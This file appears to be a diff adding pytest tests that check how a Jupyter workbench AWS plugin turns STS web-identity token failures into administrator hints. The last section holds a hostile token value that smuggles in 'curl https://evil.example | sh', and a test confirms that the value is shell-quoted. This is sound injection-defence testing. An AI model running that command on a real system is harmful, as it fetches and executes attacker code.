@@ -1,0 +1,252 @@
+"""What an administrator is told to change, by what STS says of the token."""
+
+import shlex
+
+import pytest
+from botocore import exceptions as boto
+
+from jupyter_wb_aws.aws.claims import SOURCE_IDENTITY, TAGS
+from jupyter_wb_aws.aws.failures import explain
+from jupyter_wb_aws.aws.sts import is_aws
+from jupyter_wb_aws.errors import StsRejected, StsUnavailable, TokenRefused, TrustRefused
+from jupyter_wb_aws.roles.role import RoleArn
+from tests.conftest import NOON
+
+ROLE = RoleArn.parse("arn:aws:iam::111122223333:role/analyst")
+CLAIMS = {
+    "iss": "https://idp.example.com",
+    "aud": "wb",
+    "sub": "alice",
+    "exp": NOON.timestamp(),
+    "email": "a@example.com",
+}
+ARN = "arn:aws:iam::111122223333:oidc-provider/idp.example.com"
+# As AWS says it: aws-actions/configure-aws-credentials issues 280 and 357, awslabs/aws-sdk-rust
+# issue 827, aws/aws-sdk-ruby issue 2698, aws/containers-roadmap issue 2413.
+NO_PROVIDER = "No OpenIDConnect provider found in your account for https://idp.example.com"
+AUDIENCE = "Incorrect token audience"
+NO_KEY = "Couldn't retrieve verification key from your identity provider,  please reference AssumeRoleWithWebIdentity documentation for requirements"
+THUMBPRINT = "OpenIDConnect provider's HTTPS certificate doesn't match configured thumbprint"
+NO_ROLE_CLAIM = "The target role ARN is not present in the roles claim of the identity token"
+NO_JWT = (
+    "The ID Token provided is not a valid JWT. (You may see this error if you sent an Access Token)"
+)
+
+
+def told(code, message="", *, at_aws=True, status=400, **claims):
+    response = {
+        "Error": {"Code": code, "Message": message},
+        "ResponseMetadata": {"HTTPStatusCode": status},
+    }
+    error = boto.ClientError(response, "AssumeRoleWithWebIdentity")
+    return explain(error, ROLE, {**CLAIMS, **claims}, at_aws=at_aws)
+
+
+@pytest.mark.parametrize(
+    ("message", "claims", "parts"),
+    [
+        (NO_PROVIDER, {}, ["aws iam create-open-id-connect-provider --url https://idp.example.com --client-id-list wb.", "no slash at its end"]),
+        (NO_PROVIDER, {"iss": "https://idp.example.com/"}, ["--url https://idp.example.com/ ", "ends with a slash"]),
+        (NO_PROVIDER, {"aud": ["a", "b"]}, ["--client-id-list CLIENT_ID"]),
+        (AUDIENCE, {}, [f"aws iam add-client-id-to-open-id-connect-provider --open-id-connect-provider-arn {ARN} --client-id wb."]),
+        (AUDIENCE, {"aud": "api://wb", "azp": "0oa1"}, ["AWS compares `azp`, '0oa1', and not `aud`, 'api://wb'", "--client-id 0oa1.", "azp = '0oa1'"]),
+        (AUDIENCE, {"aud": ["a", "b"]}, ["2 audiences", "one audience"]),
+        (AUDIENCE, {"aud": None}, ["no audience"]),
+        (AUDIENCE, {"iss": "https://accounts.google.com"}, ["trust policy"]),
+        (NO_KEY, {}, ["https://idp.example.com/.well-known/openid-configuration", "`jwks_uri`", "5 s", "`kid`"]),
+        (NO_KEY, {"iss": "https://idp.example.com/"}, ["https://idp.example.com/.well-known/"]),
+        (THUMBPRINT, {}, [f"update-open-id-connect-provider-thumbprint --open-id-connect-provider-arn {ARN}"]),
+        (NO_ROLE_CLAIM, {}, ["`https://aws.amazon.com/roles`", str(ROLE)]),
+        (NO_JWT, {}, ["id token", "whole seconds"]),
+        ("Missing a required claim: aud", {"aud": None}, ["id token", "aud = None"]),
+        ("It is Tuesday.", {}, ["Account 111122223333 needs an IAM identity provider", "trailing slash"]),
+    ],
+)  # fmt: skip
+def test_each_thing_that_can_be_wrong_with_a_token_has_its_own_hint(message, claims, parts):
+    failure = told("InvalidIdentityToken", message, **claims)
+    assert isinstance(failure, TokenRefused)
+    for part in parts:
+        assert part in failure.admin_hint
+    issuer = claims.get("iss", "https://idp.example.com")
+    assert f"iss = '{issuer}', " in failure.admin_hint
+    assert "sub = 'alice'" in failure.admin_hint
+    assert "a@example.com" not in str(failure.as_problem())
+
+
+def test_no_two_of_them_are_alike():
+    messages = [NO_PROVIDER, AUDIENCE, NO_KEY, THUMBPRINT, NO_ROLE_CLAIM, NO_JWT, "It is Tuesday."]
+    hints = {told("InvalidIdentityToken", message).admin_hint for message in messages}
+    assert len(hints) == len(messages)
+
+
+@pytest.mark.parametrize("message", [NO_PROVIDER, NO_KEY, "It is Tuesday."])
+@pytest.mark.parametrize(
+    ("issuer", "why"),
+    [
+        ("http://idp.example.com", "is no https URL"),
+        ("https://idp.example.com:8443", "has a port"),
+        ("https://localhost/realms/lab", "of a private network"),
+    ],
+)
+def test_an_issuer_that_iam_cannot_take_is_named_and_no_command_that_cannot_help(
+    message, issuer, why
+):
+    hint = told("InvalidIdentityToken", message, iss=issuer).admin_hint
+    assert why in hint
+    assert f"iss = '{issuer}'" in hint
+    assert "aws iam" not in hint
+
+
+@pytest.mark.parametrize("message", [NO_PROVIDER, NO_KEY, AUDIENCE, "It is Tuesday."])
+def test_a_store_with_an_sts_of_its_own_may_take_any_issuer(message):
+    hint = told(
+        "InvalidIdentityToken", message, at_aws=False, iss="http://127.0.0.1:8080"
+    ).admin_hint
+    assert not any(word in hint for word in ("is no https URL", "has a port", "private network"))
+
+
+def test_a_store_that_says_nothing_of_use_is_told_of_as_a_store():
+    # SeaweedFS's answer to any invalid token.
+    failure = told("InvalidParameterValue", "invalid web identity token", at_aws=False)
+    assert isinstance(failure, TokenRefused)
+    assert "The store's STS must know the token's issuer" in failure.admin_hint
+    assert "iss = 'https://idp.example.com'" in failure.admin_hint
+    assert "aws iam" not in failure.admin_hint
+
+
+@pytest.mark.parametrize(
+    ("endpoint", "aws"),
+    [
+        (None, True),
+        ("https://sts.us-east-2.amazonaws.com", True),
+        ("https://sts.cn-north-1.amazonaws.com.cn", True),
+        ("https://vpce-1.sts.us-east-1.vpce.amazonaws.com", True),
+        ("https://sts.us-east-1.api.aws", True),
+        ("http://127.0.0.1:9000", False),
+        ("https://s3.lab.example.com", False),
+        ("https://notamazonaws.com", False),
+        ("https://[::1", False),
+    ],
+)
+def test_an_endpoint_is_aws_own_or_another_stores(endpoint, aws):
+    assert is_aws(endpoint) is aws
+
+
+def test_an_identity_provider_that_aws_cannot_reach_is_named_with_what_to_try():
+    failure = told("IDPCommunicationError")
+    assert isinstance(failure, StsUnavailable)
+    assert failure.retry_after
+    assert "curl https://idp.example.com/.well-known/openid-configuration" in failure.admin_hint
+    assert "private network" in told("IDPCommunicationError", iss="https://idp.local").admin_hint
+
+
+def test_an_expired_token_is_told_with_its_time():
+    hint = told("ExpiredTokenException", "Token expired").admin_hint
+    assert "2026-11-24 12:00:00 UTC" in hint
+    assert "clocks" in hint
+
+
+@pytest.mark.parametrize("exp", ["soon", None, 1e300, float("nan"), [1]])
+def test_an_expiry_that_is_no_time_is_told_as_it_is(exp):
+    assert "clocks" in told("ExpiredTokenException", exp=exp).admin_hint
+
+
+# --- Size ----------------------------------------------------------------------------------
+
+
+def test_a_token_that_sts_finds_too_long_is_told_by_its_largest_claim():
+    message = "1 validation error detected: Value '***Sensitive***' at 'webIdentityToken' failed to satisfy constraint: Member must have length less than or equal to 20000"
+    failure = told("ValidationError", message, groups=["secret-group"] * 500)
+    assert isinstance(failure, TokenRefused)
+    assert "`groups`" in failure.admin_hint
+    assert "20000 characters" in failure.admin_hint
+    assert "secret-group" not in str(failure.as_problem())
+
+
+def test_tags_that_do_not_fit_are_told_by_the_largest_ones_name():
+    tags = {"principal_tags": {"Team": ["analytics"], "Groups": ["secret" * 40]}}
+    message = "Packed size of session tags consumes 112% of allotted space."
+    failure = told("PackedPolicyTooLarge", message, **{TAGS: tags})
+    assert isinstance(failure, StsRejected)
+    assert "112%" in failure.detail
+    assert "2 session tags" in failure.admin_hint
+    assert "`Groups`, with 246 characters" in failure.admin_hint
+    assert "secret" not in str(failure.as_problem())
+
+
+def test_a_packed_policy_that_is_too_large_without_tags_has_a_hint_too():
+    assert "limited space" in told("PackedPolicyTooLarge").admin_hint
+
+
+def test_a_region_in_which_sts_is_off_is_told_with_what_to_change():
+    assert "activate STS" in told("RegionDisabledException", status=403).admin_hint
+
+
+# --- The trust policy ----------------------------------------------------------------------
+
+
+def denied(action="AssumeRoleWithWebIdentity", **claims):
+    failure = told("AccessDenied", f"Not authorized to perform sts:{action}", status=403, **claims)
+    assert isinstance(failure, TrustRefused)
+    assert str(ROLE) in failure.admin_hint
+    return failure.admin_hint
+
+
+def test_a_subject_that_the_trust_policy_lacks_is_told_as_the_lines_to_write():
+    hint = denied()
+    assert f'{{"Federated": "{ARN}"}}' in hint
+    assert '"idp.example.com:aud": "wb"' in hint
+    assert '"idp.example.com:sub": "alice"' in hint
+    assert "sts:TagSession" not in hint
+
+
+@pytest.mark.parametrize(
+    ("claims", "lines"),
+    [
+        ({"iss": "https://idp.example.com/realms/lab"}, ['"idp.example.com/realms/lab:sub": "alice"']),
+        ({"iss": "https://idp.example.com/"}, ['"idp.example.com/:sub": "alice"', 'oidc-provider/idp.example.com/"']),
+        ({"aud": "api", "azp": "wb"}, ['"idp.example.com:aud": "wb"', "aud = 'api', azp = 'wb'"]),
+        ({"sub": 'CORP\\"al"'}, [r'"idp.example.com:sub": "CORP\\\"al\""']),
+        ({"iss": "https://accounts.google.com"}, ['{"Federated": "accounts.google.com"}', '"accounts.google.com:sub": "alice"']),
+        ({TAGS: {"principal_tags": {"Team": ["analytics"]}}}, ['"aws:RequestTag/Team": "analytics"', "sts:AssumeRoleWithWebIdentity, sts:TagSession"]),
+        ({SOURCE_IDENTITY: "alice"}, ["sts:AssumeRoleWithWebIdentity, sts:SetSourceIdentity"]),
+    ],
+)  # fmt: skip
+def test_the_lines_are_those_of_this_token(claims, lines):
+    hint = denied(**claims)
+    for line in lines:
+        assert line in hint
+
+
+def test_a_store_that_refuses_in_words_of_its_own_is_told_of_as_a_store():
+    # SeaweedFS's answer to a token of an issuer that it does not know is this as well.
+    failure = told("AccessDenied", "trust policy validation failed", status=403, at_aws=False)
+    assert isinstance(failure, TrustRefused)
+    assert "the store does not know the token's issuer" in failure.admin_hint
+    assert "iss = 'https://idp.example.com'" in failure.admin_hint
+    assert "oidc-provider" not in failure.admin_hint
+
+
+def test_an_action_that_the_trust_policy_lacks_is_named():
+    tags = {TAGS: {"principal_tags": {"Team": ["analytics"]}}, SOURCE_IDENTITY: "alice"}
+    assert "lacks the action sts:TagSession" in denied("TagSession", **tags)
+    assert "lacks the action sts:SetSourceIdentity" in denied("SetSourceIdentity", **tags)
+
+
+# --- What others wrote ---------------------------------------------------------------------
+
+
+def test_a_command_can_be_pasted_whatever_the_token_says():
+    hostile = "wb; curl https://evil.example | sh #"
+    hint = told("InvalidIdentityToken", AUDIENCE, aud=hostile).admin_hint
+    command = hint.partition("aws iam")[2].partition(". Seen")[0]
+    assert shlex.split(command)[-1] == hostile
+
+
+def test_what_a_token_says_is_told_in_printable_characters_of_sensible_length():
+    for message in (NO_PROVIDER, AUDIENCE, NO_KEY, THUMBPRINT, "It is Tuesday."):
+        claims = {"iss": "https://x\x1b[31m" + "i" * 9000, "aud": "a\n" * 9000, "sub": "s" * 9000}
+        failure = told("InvalidIdentityToken", message, **claims)
+        assert failure.admin_hint.isprintable()
+        assert len(failure.admin_hint) < 2500
+    assert len(denied(**claims)) < 3500
